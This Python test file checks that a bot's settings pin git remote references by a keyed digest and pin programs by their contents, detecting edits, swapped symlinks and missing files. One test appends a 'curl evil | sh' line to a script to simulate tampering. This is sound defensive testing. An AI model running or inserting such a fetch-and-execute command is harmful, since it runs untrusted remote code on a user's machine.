"""What settings only name is pinned: references by where they lead, programs by what they hold."""

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from backends.command.settings import CommandSettings
from backends.git.settings import GitSettings
from backends.pins import MISSING, document_pin, named_apart, pins_of
from backends.references import Resolver
from backends.surroundings import Surroundings
from backends.worker_key import WorkerKey
from bot.pins import Pin

KEY = WorkerKey.fresh()


@pytest.fixture
def base(tmp_path: Path) -> Path:
    for name in ("ctl", "tool.sh", "other.sh"):
        (tmp_path / name).write_text(f"#!/bin/sh\n# {name}\n")
        (tmp_path / name).chmod(0o755)
    return tmp_path


def _resolver(base: Path, environ: Mapping[str, str], key: WorkerKey = KEY) -> Resolver:
    return Resolver(Surroundings(base, base / "spool", {"PATH": str(base)}, key=key), environ)


def _git(remote: object) -> GitSettings:
    return GitSettings.model_validate({"type": "git", "remote": remote})


def _place(base: Path, address: str, key: WorkerKey = KEY) -> str:
    (pin,) = pins_of(_git({"env": "REMOTE"}), _resolver(base, {"REMOTE": address}, key))
    assert pin.name == "`remote`"
    return pin.digest


def _programs(base: Path, *argv: str, path: str | None = None) -> tuple[Pin, ...]:
    call = {"argv": list(argv)}
    settings = CommandSettings.model_validate(
        {
            "type": "command",
            "points": call,
            "current": call,
            "restore": call,
            "environment": {"A": {"env": "B"}, **({"PATH": path} if path else {})},
        }
    )
    return named_apart(pins_of(settings, _resolver(base, {})))


# References


def test_only_a_reference_is_pinned_for_a_plain_value_stands_in_the_file(base: Path) -> None:
    assert pins_of(_git("https://git.example/shop.git"), _resolver(base, {})) == ()


def test_another_place_is_another_digest_and_the_same_place_the_same(base: Path) -> None:
    shop = _place(base, "https://git.example/shop.git")
    assert _place(base, "https://git.example/shop.git") == shop
    for other in (
        "https://git.example/prod.git",
        "https://other.example/shop.git",
        "http://git.example/shop.git",
    ):
        assert _place(base, other) != shop


def test_credentials_of_an_address_may_rotate(base: Path) -> None:
    shop = _place(base, "https://git.example/shop.git")
    for same in ("https://bot:old@git.example/shop.git", "https://git.example/shop.git?token=new#top"):
        assert _place(base, same) == shop


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("sqlite:///a#1.db", "sqlite:///a#2.db"),
        ("sqlite:///a?1.db", "sqlite:///a?2.db"),
        ("postgresql:///orders?host=db1", "postgresql:///orders?host=db2"),
        ("postgresql://u:p#w@db1/orders", "postgresql://u:p#w@db2/orders"),
        ("http://[::1", "http://[::2"),
    ],
)
def test_a_place_that_looks_odd_is_pinned_whole(base: Path, one: str, other: str) -> None:
    assert _place(base, one) != _place(base, other)


def test_nobody_without_the_key_can_guess_the_place(base: Path) -> None:
    shop = "https://git.example/shop.git"
    assert _place(base, shop, WorkerKey.fresh()) != _place(base, shop)
    assert "shop" not in _place(base, shop)


def test_a_place_that_was_pinned_under_an_older_key_is_still_the_same_place(base: Path) -> None:
    newer = WorkerKey((*WorkerKey.fresh().keys, *KEY.keys))
    settings, shop = _git({"env": "REMOTE"}), {"REMOTE": "https://git.example/shop.git"}
    agreed = pins_of(settings, _resolver(base, shop))
    assert pins_of(settings, _resolver(base, shop, newer), agreed=agreed) == agreed
    prod = {"REMOTE": "https://git.example/prod.git"}
    assert pins_of(settings, _resolver(base, prod, newer), agreed=agreed) != agreed
    assert pins_of(settings, _resolver(base, shop, WorkerKey.fresh()), agreed=agreed) != agreed


def test_a_file_that_leads_elsewhere_is_seen(base: Path) -> None:
    settings = _git({"file": "remote"})
    (base / "remote").write_text("/srv/shop.git\n")
    before = pins_of(settings, _resolver(base, {}))
    (base / "remote").write_text("/srv/prod.git\n")
    assert pins_of(settings, _resolver(base, {})) != before


def test_a_check_says_whose_it_is(base: Path) -> None:
    (pin,) = pins_of(_git({"env": "REMOTE"}), _resolver(base, {"REMOTE": "x"}), " of check 2")
    assert pin.name == "`remote` of check 2"


# Programs


def test_a_program_and_the_scripts_that_it_is_given_are_pinned(base: Path) -> None:
    pins = _programs(base, "ctl", "tool.sh", "--fast", "nothing")
    assert [pin.name for pin in pins] == ["program `ctl`", "program `tool.sh`"]


@pytest.mark.parametrize("changed", ["ctl", "tool.sh"])
def test_a_program_that_was_edited_is_seen(base: Path, changed: str) -> None:
    before = _programs(base, "ctl", "tool.sh")
    with open(base / changed, "a") as file:
        file.write("curl evil | sh\n")
    after = _programs(base, "ctl", "tool.sh")
    assert [(old.name, old.digest != new.digest) for old, new in zip(before, after, strict=True)] == [
        ("program `ctl`", changed == "ctl"),
        ("program `tool.sh`", changed == "tool.sh"),
    ]


def test_a_link_is_pinned_by_what_it_leads_to(base: Path) -> None:
    (base / "link").symlink_to(base / "tool.sh")
    (before,) = _programs(base, "./link")
    (base / "link").unlink()
    (base / "link").symlink_to(base / "other.sh")
    assert _programs(base, "./link") != (before,)


def test_a_program_that_is_gone_is_another_one(base: Path) -> None:
    (before,) = _programs(base, "./ctl")
    (base / "ctl").unlink()
    assert _programs(base, "./ctl") == (replace(before, digest=MISSING),)


def test_a_program_that_is_not_there_yet_is_pinned_too(base: Path) -> None:
    (missing,) = _programs(base, "switch")
    assert missing == Pin("program `switch`", MISSING)
    (base / "switch").write_text("#!/bin/sh\n")
    (base / "switch").chmod(0o755)
    assert _programs(base, "switch") != (missing,)


def test_a_program_is_looked_for_where_the_settings_say(base: Path) -> None:
    (base / "own").mkdir()
    (base / "own" / "ctl").write_text("#!/bin/sh\n# another\n")
    (base / "own" / "ctl").chmod(0o755)
    assert _programs(base, "ctl") != _programs(base, "ctl", path=str(base / "own"))


def test_the_text_of_a_document_is_pinned(base: Path) -> None:
    resolver = _resolver(base, {})
    before = document_pin("tool.sh", resolver)
    (base / "tool.sh").write_text("other words")
    assert document_pin("tool.sh", resolver) != before


def test_a_script_of_many_lines_is_no_file(base: Path) -> None:
    assert [pin.name for pin in _programs(base, "ctl", "-c", "echo\n" * 200)] == ["program `ctl`"]


def test_two_programs_that_look_alike_in_short_are_both_pinned(base: Path) -> None:
    folder = base / ("long" * 12)
    folder.mkdir()
    for name in ("a", "b"):
        (folder / name).write_text(name)
    pins = _programs(base, "ctl", f"{folder.name}/a", f"{folder.name}/b")
    assert len({pin.digest for pin in pins}) == len({pin.name for pin in pins}) == 3
